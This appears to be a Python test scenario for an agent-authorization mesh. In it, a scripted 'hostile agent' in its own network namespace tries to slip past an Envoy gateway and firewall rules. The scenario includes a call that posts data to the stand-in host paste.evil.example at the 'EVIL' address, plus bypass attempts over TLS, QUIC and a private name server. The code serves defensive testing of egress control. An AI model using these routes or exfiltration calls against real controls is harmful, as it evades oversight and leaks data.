"""The scenario's chapter of ways around: an agent that is told nothing of the mesh and tries to get past it.

It has a network namespace of its own, a gateway beside it that asks the authorizers of the mesh, and rules of a packet
filter; a witness outside counts what arrives.
"""

from __future__ import annotations

import asyncio
import json
import sys
from asyncio.subprocess import Process
from collections.abc import AsyncIterator, Sequence
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import yaml

from aegis_authz.core.redirection_ports import TRANSPARENT_PORT
from aegis_authz.demo.agent import Agent
from aegis_authz.demo.mesh import DemoMesh
from aegis_authz.demo.scenario import Row
from aegis_authz.encoding.narrowing import mapping, number, text
from aegis_authz.local.envoy_admin import EnvoyUnreadable, read_admin
from aegis_authz.local.mesh_facts import read_facts
from aegis_authz.local.namespaces import inside, missing, namespace, run, running
from aegis_authz.local.servers import find_envoy

_AGENT, _AGENT_UID = "acme/emea/finance-agent", 10001
_POD, _EVIL = "10.88.0.1", "10.88.0.66"
_PATIENCE = 30.0
_LINKS = f"""
ip link set lo up
ip link add inward type veth peer name outward netns {{world}}
ip addr add {_POD}/24 dev inward
ip link set inward up
"""
_OUTSIDE = f"ip addr add {_EVIL}/24 dev outward\nip link set outward up\n"
_ROUTE = f"ip route add default via {_EVIL}\n"
_PAST = (("handshake", "TLS"), ("datagram", "QUIC"), ("name", "a name server of its own"))
_PAYMENT = {"do": "call", "server": _EVIL, "host": "api.stripe.example", "path": "/v1/payments"}
_POST = {"do": "call", "server": _EVIL, "host": "paste.evil.example", "path": "/", "address": _EVIL}


async def way_around(mesh: DemoMesh, agent: Agent) -> list[Row]:
    """An agent that is told nothing of the mesh, and tries to get past it."""
    if missing():
        return [_line("go around the gateway", "not played", missing(), ok=True)]
    async with _pod(mesh) as pod:
        return [
            await pod.attempts("before the rules", reaches=True),
            await pod.rules(),
            await pod.call(agent, "pay 4,200, told nothing", {**_PAYMENT, "body": {"amount": 4200}}, "allow ALLOWED"),
            await pod.call(agent, "pay 50,000", {**_PAYMENT, "body": {"amount": 50_000}}, "deny POLICY_DENIED"),
            await pod.call(
                agent,
                "pay 4,200 over https",
                {**_PAYMENT, "body": {"amount": 4200}, "authority": pod.authority},
                "allow ALLOWED",
            ),
            await pod.call(
                agent, "post to an address of its own", {**_POST, "body": {"data": "x"}}, "deny EGRESS_DENIED"
            ),
            await pod.attempts("past the gateway", reaches=False),
        ]


@dataclass(frozen=True, slots=True)
class _Pod:
    pid: int
    agent: Process
    outside: Process
    authority: str

    async def rules(self) -> Row:
        """Put up the rules, by the command."""
        words = ("intercept", "up", "--pod", "--gateway", "0", "--device", "inward")
        sentence = await run(inside(self.pid, *_aegis(*words)))
        return _line("aegis intercept up --pod", "on", "", ok=sentence.startswith("on: only user 0 may go out"))

    async def call(self, agent: Agent, call: str, order: dict[str, object], expected: str) -> Row:
        """A call of the hostile agent, as it was recorded."""
        facts = mapping(json.loads(await _ask(self.agent, json.dumps(order))), "an answer")
        decision_id = text(facts.get("x-aegis-decision-id", ""), "a decision id")
        record = (agent.record(decision_id) if decision_id else None) or {}
        answer, reason = text(facts.get("x-aegis-decision", ""), "a decision"), str(record.get("reason", ""))
        is_agents = (record.get("way"), record.get("source")) == ("workload", _POD)
        return Row(
            chapter="around",
            call=call,
            expected=expected,
            answer=answer,
            reason=reason,
            ms=float(number(facts.get("ms", 0), "ms")),
            decision_id=decision_id,
            ok=f"{answer} {reason}" == expected and is_agents,
        )

    async def attempts(self, when: str, *, reaches: bool) -> Row:
        """All that does not go by a gateway: what of it arrived outside."""
        await _ask(self.outside, "seen")
        arrived = []
        for kind, name in _PAST:
            await _ask(self.agent, json.dumps({"do": kind, "server": _EVIL}))
            if int(await _ask(self.outside, "seen")):
                arrived.append(name)
        ok = len(arrived) == (len(_PAST) if reaches else 0)
        call = f"{when}: {', '.join(name for _, name in _PAST)}"
        return _line(call, "reached" if reaches else "refused", f"{len(arrived)} of {len(_PAST)} arrived", ok=ok)


@asynccontextmanager
async def _pod(mesh: DemoMesh) -> AsyncIterator[_Pod]:
    async with AsyncExitStack() as stack:
        pod, world = await stack.enter_async_context(namespace()), await stack.enter_async_context(namespace())
        await run(inside(pod, "sh", "-e"), _LINKS.format(world=world))
        await run(inside(world, "sh", "-e"), _OUTSIDE)
        await run(inside(pod, "sh", "-e"), _ROUTE)
        outside = (sys.executable, "-P", "-m", "aegis_authz.demo.outside", "outward", _EVIL)
        agent = (sys.executable, "-P", "-m", "aegis_authz.demo.hostile_agent", str(_AGENT_UID))
        witness = await stack.enter_async_context(running(*inside(world, *outside)))
        hostile = await stack.enter_async_context(running(*inside(pod, *agent)))
        await stack.enter_async_context(_tool(pod, mesh))
        await stack.enter_async_context(_gateway(pod, mesh, mesh.folder / "pod"))
        authority = (mesh.state / "ca" / "trusted.pem").read_text("utf-8")
        yield _Pod(pod, hostile, witness, authority)


@asynccontextmanager
async def _tool(pod: int, mesh: DemoMesh) -> AsyncIterator[None]:
    """A stand-in for the tool of payments: its place is on loopback, and the pod has a loopback of its own."""
    document = yaml.safe_load((mesh.catalogue / "stripe-payments.yaml").read_text("utf-8"))
    port, ready = urlsplit(document["upstream"]).port, Path(read_facts(mesh.state).run) / "pod-echo"
    words = _aegis("serve", "echo", "--ready", str(ready), "--port", str(port))
    async with running(*inside(pod, *words)):
        async with asyncio.timeout(_PATIENCE):
            while not ready.is_socket():  # noqa: ASYNC110  # another process says nothing by itself
                await asyncio.sleep(0.05)
        yield


@asynccontextmanager
async def _gateway(pod: int, mesh: DemoMesh, folder: Path) -> AsyncIterator[None]:
    """A second Envoy, as a sidecar has it: its listener stands for the agent that the mesh knows by a port."""
    facts = read_facts(mesh.state)
    port, admin, config = urlsplit(facts.workload[_AGENT]).port, Path(facts.run) / "pod-envoy", mesh.folder / "pod.yaml"
    settings = yaml.safe_load((mesh.state / "proxy.yaml").read_text("utf-8")) | {
        "forward_port": 0,
        "reverse_port": 0,
        "admin_socket": str(admin),
        "xds": str(folder),
        "access_log": str(folder / "access.log"),
        "door": None,
        "workload": {},
        "transparent": {"listeners": {f"workload-{port}": TRANSPARENT_PORT}},
    }
    config.write_text(yaml.safe_dump(settings), "utf-8")
    await mesh.aegis("envoy", "render", "--out", str(folder), "--config", str(config), "--tools", str(mesh.catalogue))
    start = ("-c", str(folder / "envoy.yaml"), "--concurrency", "1", "--disable-hot-restart", "--log-level", "error")
    async with running(*inside(pod, str(find_envoy()), *start)):
        async with asyncio.timeout(_PATIENCE):
            while not await _is_live(admin):  # noqa: ASYNC110  # another process says nothing by itself
                await asyncio.sleep(0.05)
        yield


async def _is_live(admin: Path) -> bool:
    try:
        facts = mapping(await read_admin(admin, "/server_info"), "server_info")
    except EnvoyUnreadable:
        return False
    return facts.get("state") == "LIVE"


async def _ask(program: Process, line: str) -> str:
    if program.stdin is None or program.stdout is None:
        raise BrokenPipeError("a program without pipes")
    program.stdin.write(f"{line}\n".encode())
    await program.stdin.drain()
    async with asyncio.timeout(_PATIENCE):
        return (await program.stdout.readline()).decode()


def _aegis(*words: str) -> Sequence[str]:
    return (sys.executable, "-P", "-m", "aegis_authz.cli", *words)


def _line(call: str, answer: str, reason: str, *, ok: bool) -> Row:
    return Row(
        chapter="around", call=call, expected=answer, answer=answer, reason=reason, ms=0.0, decision_id="", ok=ok
    )
